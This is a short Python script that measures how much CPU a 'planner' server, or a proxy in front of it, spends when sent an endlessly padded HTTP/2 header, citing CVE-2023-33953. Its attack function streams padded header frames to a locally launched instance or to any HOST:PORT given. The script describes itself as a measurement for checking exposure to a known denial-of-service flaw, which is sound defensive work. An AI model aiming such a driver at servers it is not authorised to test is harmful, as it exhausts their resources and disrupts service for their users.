#!/usr/bin/env python3
"""What one header that is padded without end costs a planner (CVE-2023-33953). A measurement, not a test.

    padded_header.py NEUROSHARD_PLANNER [MIB...]
    padded_header.py HOST:PORT PID [MIB...]        of a proxy, say, and of the planner behind it
"""

import os
import pathlib
import subprocess
import sys
import time

import http2

MIB = 1 << 20


def cpu_seconds(pid):
    fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def settled(pid):
    """CPU seconds, once they do not grow any more."""
    before = -1.0
    while (now := cpu_seconds(pid)) > before:
        before = now
        time.sleep(1)
    return now


def attack(address, pid, num_bytes):
    connection = http2.Connection(address)
    before, sent = settled(pid), 0
    try:
        for frames in http2.padded_header(num_bytes):
            connection.socket.sendall(frames)
            sent += len(frames)
    except OSError as fault:
        print("cut off:", fault)
    print(f"{sent / MIB:.1f} MiB: {settled(pid) - before:.2f} s of CPU")


def main():
    first, *more = sys.argv[1:]
    behind = ":" in first
    for mib in map(int, more[behind:] or ["1", "4", "7"]):
        if behind:
            attack(first, int(more[0]), mib * MIB)
            continue
        command = [first, "--listen", "127.0.0.1:0", "--metrics", "", "--models", pathlib.Path(__file__).resolve().parents[2] / "configs/models"]
        with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as planner:
            attack(planner.stdout.readline().split()[-1], planner.pid, mib * MIB)
            planner.kill()


if __name__ == "__main__":
    main()
